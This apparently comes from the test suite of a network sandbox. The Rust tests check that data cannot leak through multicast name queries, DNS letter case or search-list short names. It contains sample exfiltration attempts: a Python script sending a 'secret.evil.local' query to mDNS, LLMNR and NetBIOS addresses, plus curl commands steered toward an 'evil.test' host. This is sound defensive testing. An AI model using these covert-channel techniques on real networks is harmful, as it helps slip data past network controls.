//! Names as a channel: asked of everybody on the link, or told apart by their letters' case only.

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, multicast_questions_stay_inside, letter_case_carries_nothing, short_names);
}

/// mDNS, LLMNR and NetBIOS ask whoever is on the link.
fn multicast_questions_stay_inside(mode: Mode) {
    let world = World::new();
    let script = "\
import socket, struct
question = struct.pack('>6H', 7, 0, 1, 0, 0, 0) + b'\\x06secret\\x04evil\\x05local\\0' + struct.pack('>2H', 255, 1)
for family, host, port in ((2, '224.0.0.251', 5353), (10, 'ff02::fb%eth0', 5353), (2, '224.0.0.252', 5355),
                           (10, 'ff02::1:3%eth0', 5355), (2, '255.255.255.255', 137), (10, 'ff02::1%eth0', 53)):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.settimeout(0.3)
    try:
        s.sendto(question, socket.getaddrinfo(host, port, family, socket.SOCK_DGRAM)[0][4])
        print(host, port, s.recv(2000))
    except TimeoutError: pass
    except OSError as error: print(error)
print('asked')
";
    let outcome = Jail::new(&world, mode).allow("good.test").python(script);
    outcome.assert_success();
    assert!(!outcome.stdout.contains("b'"), "nobody answers: {outcome}");
    for address in ["224.0.0.251", "ff02::fb", "224.0.0.252", "ff02::1:3", "255.255.255.255"] {
        let told = outcome.denied().iter().any(|event| event.dst.as_deref() == Some(address));
        assert!(told, "{address}: {outcome}");
    }
    assert!(!world.wire().saw_bytes(b"secret"));
    world.assert_attacker_saw_nothing();
}

/// Twenty letters could carry twenty bits a question. What leaves has the gateway's own case.
fn letter_case_carries_nothing(mode: Mode) {
    const LETTERS: &str = "abcdefghijklmnopqrst";
    let world = World::new();
    let names: Vec<String> = (0..8).map(|number| format!("n{number}-{LETTERS}.good.test")).collect();
    for name in &names {
        world.zone().address(name, [203, 0, 113, 9]);
    }
    let asked: Vec<String> = names
        .iter()
        .map(|name| name.replace(LETTERS, &LETTERS.to_uppercase()).replace("good", "GoOd"))
        .collect();
    let dig = [&["dig", "+short"], asked.iter().map(String::as_str).collect::<Vec<_>>().as_slice()].concat();
    let outcome = Jail::new(&world, mode).allow("*.good.test").run(&dig);
    assert_eq!(outcome.stdout, "203.0.113.9\n".repeat(names.len()), "{outcome}");
    let upper = LETTERS.to_uppercase();
    assert!(world.wire().saw_bytes_of_any_case(LETTERS.as_bytes()), "{outcome}");
    assert!(!world.wire().saw_bytes(upper.as_bytes()), "the case of the job left");
    Jail::direct(&world, mode).run(&dig);
    assert!(world.wire().saw_bytes(upper.as_bytes()), "without a jail it gets out");
}

/// What a search list completes is the host that it led to, for TLS and HTTP as well; no other host is.
fn short_names(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let other = world.site("evil.test");
    let jail = || Jail::new(&world, mode).env("LOCALDOMAIN", "test");
    let ask = |url: &str| format!("curl -sSkf --max-time 9 {url}");
    for (url, kind) in [("http://good/", "http"), ("https://good/", "tls")] {
        let outcome = jail().allow("good.test").option("--fail-on-blocked").shell(&ask(url));
        outcome.assert_success().assert_allowed(kind, "good.test");
    }
    assert_eq!(site.paths().len(), 2);
    // The rule that is suggested leads there.
    let closed = jail().allow("good.test:443").shell(&ask("http://good/"));
    closed
        .assert_failure()
        .assert_denied("http", "good.test", "not-allowed")
        .assert_says("to allow: --allow good.test");
    let [address, _] = other.addresses();
    let good = site.addresses()[0];
    for (names, to) in [("evil", good), ("good", address), ("evil.test", good), ("oo", good), ("g", good)] {
        let script = format!(
            "getent hosts good.test; curl -sSkf --max-time 9 --resolve {names}:80:{to} http://{names}/"
        );
        jail().allow("good.test").shell(&script).assert_failure();
    }
    assert_eq!((site.paths().len(), other.connections()), (2, 0));
}
